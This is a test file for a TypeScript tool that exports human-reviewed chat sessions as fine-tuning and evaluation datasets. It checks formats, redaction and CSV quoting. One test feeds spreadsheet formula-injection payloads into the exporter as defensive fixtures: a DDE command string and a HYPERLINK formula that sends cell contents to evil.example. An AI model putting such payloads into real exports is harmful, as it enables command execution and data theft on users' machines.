/**
 * Datasets from review data over a real session file (either driver): each format written and every record checked
 * by the rules checker (written from the published formats); what is skipped says why; redaction; CSV quoting; the
 * checker itself refusing broken records, so it can fail.
 */
import { strict as assert } from 'node:assert';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { AdvancedSQLiteSession, openSessionDatabase, type SessionDatabase } from '../../../../src/store';
import { chatMessages, toolPairingProblem } from '../../../../src/store/datasets/chatMessages';
import { checkJsonl, evalProblems, preferenceProblems, sftProblems } from '../../../../src/store/datasets/datasetChecks';
import { csvField, exportDataset } from '../../../../src/store/datasets/datasetExport';
import { DEFAULT_REDACTIONS } from '../../../../src/store/datasets/datasetRecords';
import { contentKey } from '../../../../src/store/reviews/contentKey';
import { ReviewStore } from '../../../../src/store/reviews/reviewStore';
import { tempDir } from '../../../support/tempFiles';

const user = (text: string) => ({ role: 'user', content: text });
const answer = (text: string) => ({ type: 'message', role: 'assistant', status: 'completed', content: [{ type: 'output_text', text }] });
const call = (id: string, name: string, args: object) => ({ type: 'function_call', call_id: id, name, arguments: JSON.stringify(args) });
const output = (id: string, text: string) => ({ type: 'function_call_output', call_id: id, output: text });

describe('datasets from reviews', () => {
  const tmp = tempDir('asi-datasets-');
  let db: SessionDatabase;
  let reviews: ReviewStore;
  const K = (text: string) => contentKey(user(text));

  before(async () => {
    const path = join(tmp.dir, 's.db');
    const s = new AdvancedSQLiteSession({ sessionId: 's', dbPath: path, createTables: true });
    await s.addItems([
      { role: 'system', content: 'You plan trips.' },
      user('Hi, my mail is ana@example.com'),
      answer('Hello! How can I help?'),
    ] as never);
    await s.addItems([
      user('Weather in Oslo?'),
      call('c1', 'get_weather', { city: 'Oslo' }),
      output('c1', '7°C, rain'),
      answer('It is 7 °C and raining in Oslo.'),
    ] as never);
    await s.addItems([user('Pack an umbrella?'), answer('No need.')] as never);
    await s.addItems([user('A call left hanging'), call('c9', 'get_weather', { city: 'Rome' })] as never);
    await s.createBranchFromTurn(3, 'retry');
    await s.addItems([user('Pack an umbrella?'), answer('Yes, take one: it will rain all day.')] as never);
    s.close();
    db = openSessionDatabase(path);
    reviews = ReviewStore.open(join(tmp.dir, 'reviews.db'));
    const ref = (turn: number, text: string, branchId = 'main') => ({ sessionId: 's', branchId, turn, turnKey: K(text) });
    reviews.setTurnReview(ref(1, 'Hi, my mail is ana@example.com'), { verdict: 'good', tags: ['greeting'] });
    reviews.setTurnReview(ref(2, 'Weather in Oslo?'), { verdict: 'good', tags: ['weather'] });
    reviews.setTurnReview(ref(3, 'Pack an umbrella?'), { verdict: 'bad', tags: ['hallucination'] });
    reviews.setTurnReview(ref(4, 'A call left hanging'), { verdict: 'good' });
    // A review of a turn whose content changed since: orphaned.
    reviews.setTurnReview(ref(3, 'a question that is not there'), { verdict: 'good' });
    // The key of the answer as stored (the store adds the SDK's defaults, such as empty annotations).
    const stored = db.getTurnItems('s', 'main', 3).find((i) => !i.corrupt && (i.item as { role?: string }).role === 'assistant');
    assert.ok(stored && !stored.corrupt);
    reviews.setCorrection({ ...ref(3, 'Pack an umbrella?'), itemKey: contentKey(stored.item), text: 'Yes: rain is forecast all day.' });
    reviews.setPairwise({
      sessionId: 's',
      leftBranch: 'main',
      rightBranch: 'retry',
      turn: 3,
      leftKey: K('Pack an umbrella?'),
      rightKey: K('Pack an umbrella?'),
      outcome: 'right',
      reason: 'it looked at the forecast',
      leftModel: null,
      rightModel: 'gpt-4.1-mini',
    });
  });
  after(() => {
    db.close();
    reviews.close();
    tmp.cleanup();
  });

  async function write(format: 'sft' | 'preference' | 'eval', extra: object = {}) {
    const out = join(tmp.dir, `${format}-${Object.keys(extra).join('-') || 'plain'}.jsonl`);
    const report = await exportDataset(db, reviews.exportData(), out, { format, ...extra });
    const text = readFileSync(out, 'utf8');
    return {
      report,
      text,
      lines: text
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>),
      checked: checkJsonl(format, text),
    };
  }

  it('supervised fine-tuning: good turns with their context (learned from: the turn only), corrections in place of the answer', async () => {
    const { report, lines, checked } = await write('sft');
    assert.deepEqual(checked.problems, [], 'every record passes the checker');
    assert.equal(checked.records, 3);
    assert.deepEqual(lines[1], {
      messages: [
        { role: 'system', content: 'You plan trips.' },
        { role: 'user', content: 'Hi, my mail is ana@example.com' },
        { role: 'assistant', content: 'Hello! How can I help?', weight: 0 },
        { role: 'user', content: 'Weather in Oslo?' },
        {
          role: 'assistant',
          content: null,
          tool_calls: [{ id: 'c1', type: 'function', function: { name: 'get_weather', arguments: '{"city":"Oslo"}' } }],
          weight: 1,
        },
        { role: 'tool', tool_call_id: 'c1', content: '7°C, rain' },
        { role: 'assistant', content: 'It is 7 °C and raining in Oslo.', weight: 1 },
      ],
    });
    const corrected = lines[2]!.messages as { role: string; content: string; weight?: number }[];
    assert.deepEqual(corrected[corrected.length - 1], { role: 'assistant', content: 'Yes: rain is forecast all day.', weight: 1 });
    assert.equal(corrected[corrected.length - 2]!.content, 'Pack an umbrella?', 'the corrected answer replaces the original');
    assert.deepEqual(
      report.skipped.map((s) => [s.where, s.reason]),
      [
        ['s main turn 3', 'orphaned: the turn holds another user message now'],
        ['s main turn 4', 'the tool call c9 has no output'],
      ],
    );
  });

  it('preference fine-tuning: a pairwise verdict and a correction, each against the answer it beat', async () => {
    const { lines, checked } = await write('preference');
    assert.deepEqual(checked.problems, []);
    assert.equal(lines.length, 2);
    assert.deepEqual(lines[0]!.preferred_output, [{ role: 'assistant', content: 'Yes, take one: it will rain all day.' }]);
    assert.deepEqual(lines[0]!.non_preferred_output, [{ role: 'assistant', content: 'No need.' }]);
    const input = (lines[0]!.input as { messages: { role: string; content: string }[] }).messages;
    assert.deepEqual(input[input.length - 1], { role: 'user', content: 'Pack an umbrella?' });
    assert.deepEqual(lines[1]!.preferred_output, [{ role: 'assistant', content: 'Yes: rain is forecast all day.' }]);
  });

  it('the evaluation set as JSONL and CSV, with redaction on request', async () => {
    const { lines, checked, report } = await write('eval', { redact: DEFAULT_REDACTIONS });
    assert.deepEqual(checked.problems, []);
    assert.deepEqual(
      lines.map((l) => [l.kind, l.reference, l.tags]),
      [
        ['good-turn', 'Hello! How can I help?', ['greeting']],
        ['good-turn', 'It is 7 °C and raining in Oslo.', ['weather']],
        ['correction', 'Yes: rain is forecast all day.', ['hallucination']],
        ['preferred', 'Yes, take one: it will rain all day.', []],
      ],
    );
    assert.match(JSON.stringify(lines[0]!.input), /my mail is \[redacted\]/);
    assert.ok(report.skipped.some((s) => s.reason === 'the turn does not end with assistant text'));
    const csvOut = join(tmp.dir, 'eval.csv');
    await exportDataset(db, reviews.exportData(), csvOut, { format: 'eval', encoding: 'csv' });
    const csv = readFileSync(csvOut, 'utf8').split('\r\n');
    assert.equal(csv[0], 'input,reference,tags,kind,session_id,branch_id,turn');
    assert.equal(csv[1], '"Hi, my mail is ana@example.com",Hello! How can I help?,greeting,good-turn,s,main,1');
    assert.equal(csvField('say "hi"\nbye'), '"say ""hi""\nbye"');
  });

  it('the evaluation CSV: a field a spreadsheet would evaluate as a formula starts with an apostrophe', async () => {
    // OWASP's CSV injection triggers: =, +, -, @, a tab, a carriage return first; the apostrophe inside the quotes.
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('+cmd|"/C calc"!A0'), `"'+cmd|""/C calc""!A0"`);
    assert.equal(csvField('-2+3'), "'-2+3");
    assert.equal(csvField('@SUM(1)'), "'@SUM(1)");
    assert.equal(csvField('\t=1+1'), "'\t=1+1");
    assert.equal(csvField('\r=1+1'), `"'\r=1+1"`);
    assert.equal(csvField('=HYPERLINK("https://evil.example/?"&B2,"Open")'), `"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")"`);
    // Only the first character counts: text with these characters elsewhere is written as it is.
    for (const plain of ['a=b', '2-1', 'ana@example.com', '1', '', 'x\t=y']) assert.equal(csvField(plain), plain);
    // A signed number alone is a number, no formula: an answer of -2 reads -2.
    for (const number of ['-2', '+1.5', '-.5', '-3e4', '+2E-3']) assert.equal(csvField(number), number);
    for (const formula of ['-2+3', '-2 ', '-2e', '--2', '-', '+', '-1,5', '-0x1', '-2%', '-1.2.3', '-2\n=1'])
      assert.ok(csvField(formula).replace(/^"/, '').startsWith("'"), formula);

    // Through the export: the user's message, the reference and the session id are text anyone may have written (tags
    // cannot start with one of these characters).
    const path = join(tmp.dir, 'formulas.db');
    const question = '=HYPERLINK("https://evil.example/?"&B2,"Open")';
    const s = new AdvancedSQLiteSession({ sessionId: '@s', dbPath: path, createTables: true });
    await s.addItems([user(question), answer('-2+3')] as never);
    s.close();
    const formulas = openSessionDatabase(path);
    const store = ReviewStore.open(join(tmp.dir, 'formula-reviews.db'));
    try {
      store.setTurnReview({ sessionId: '@s', branchId: 'main', turn: 1, turnKey: K(question) }, { verdict: 'good', tags: ['maths'] });
      const out = join(tmp.dir, 'formulas.csv');
      await exportDataset(formulas, store.exportData(), out, { format: 'eval', encoding: 'csv' });
      assert.deepEqual(readFileSync(out, 'utf8').split('\r\n'), [
        'input,reference,tags,kind,session_id,branch_id,turn',
        `"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")",'-2+3,maths,good-turn,'@s,main,1`,
        '',
      ]);
    } finally {
      formulas.close();
      store.close();
    }
  });

  it('filters by tag and by model, and leaves no file when the export fails', async () => {
    const { lines } = await write('eval', { tags: ['weather'] });
    assert.deepEqual(
      lines.map((l) => l.reference),
      ['It is 7 °C and raining in Oslo.'],
    );
    // A model: the pairwise verdicts where a side ran on it; turn reviews and corrections record none.
    const mini = await write('preference', { model: 'gpt-4.1-mini' });
    assert.deepEqual(
      mini.lines.map((l) => l.preferred_output),
      [[{ role: 'assistant', content: 'Yes, take one: it will rain all day.' }]],
    );
    const other = join(tmp.dir, 'other-model.jsonl');
    const none = await exportDataset(db, reviews.exportData(), other, { format: 'eval', model: 'gpt-4.1-mini' });
    assert.equal(none.records, 1, "the pairwise verdict's better answer is the one reference");
    // The same file again: replacing it is the caller's explicit choice (the CLI's --force).
    const nobody = await exportDataset(db, reviews.exportData(), other, { format: 'sft', model: 'o3', overwrite: true });
    assert.equal(nobody.records, 0);
    const out = join(tmp.dir, 'aborted.jsonl');
    const abort = new AbortController();
    abort.abort();
    await assert.rejects(exportDataset(db, reviews.exportData(), out, { format: 'sft', signal: abort.signal }));
    assert.equal(existsSync(out), false);
    assert.deepEqual(
      readdirSync(tmp.dir).filter((f) => f.includes('.partial-')),
      [],
    );
  });

  it('the checker refuses what breaks the published rules', () => {
    assert.deepEqual(sftProblems({ messages: [{ role: 'user', content: 'hi' }] }), ['no assistant message to learn from (weight 1)']);
    assert.match(sftProblems({ messages: [{ role: 'robot', content: 'x' }] }).join(), /role "robot"/);
    assert.match(
      sftProblems({
        messages: [
          { role: 'user', content: 'q' },
          { role: 'assistant', content: null, tool_calls: [{ id: 'a', type: 'function', function: { name: 'f', arguments: '{bad' } }] },
          { role: 'assistant', content: 'x' },
        ],
      }).join(),
      /not valid JSON.*before the output of tool call a/,
    );
    assert.match(
      sftProblems({
        messages: [
          { role: 'user', content: 'q' },
          { role: 'assistant', content: null, tool_calls: [{ id: 'a', type: 'function', function: { name: 'f', arguments: '{}' } }] },
          { role: 'tool', tool_call_id: 'a', content: 'o' },
          { role: 'assistant', content: 'x' },
        ],
        tools: [{ type: 'function', function: { name: 'g' } }],
      }).join(),
      /calls f, which "tools" does not define/,
    );
    assert.match(
      preferenceProblems({
        input: {
          messages: [
            { role: 'user', content: 'q' },
            { role: 'assistant', content: 'a' },
          ],
        },
        preferred_output: [{ role: 'assistant', content: 'x' }],
        non_preferred_output: [{ role: 'assistant', content: 'x' }],
      }).join(),
      /end with the user message.*the same/,
    );
    assert.match(
      evalProblems({
        input: [{ role: 'user', content: 'q' }],
        reference: '',
        tags: [],
        source: { sessionId: 's', branchId: 'm', turn: 1 },
      }).join(),
      /reference/,
    );
    assert.deepEqual(checkJsonl('sft', '{"messages": [}\n').problems, [{ line: 1, problems: ['not valid JSON'] }]);
  });

  it('converts items to chat messages, counting what has no chat form', () => {
    const c = chatMessages([
      { type: 'reasoning', summary: [] },
      { role: 'developer', content: 'Be brief.' },
      {
        role: 'user',
        content: [
          { type: 'input_text', text: 'Look: ' },
          { type: 'input_image', image_url: 'x' },
        ],
      },
      { type: 'web_search_call', id: 'w' },
    ]);
    assert.deepEqual(c.messages, [
      { role: 'system', content: 'Be brief.' },
      { role: 'user', content: 'Look: ' },
    ]);
    assert.deepEqual(c.leftOut, ['reasoning', 'a input_image part of a message', 'web_search_call']);
    assert.equal(
      toolPairingProblem([{ role: 'tool', tool_call_id: 'x', content: '' }]),
      'a tool message for x that no assistant message called',
    );
  });
});
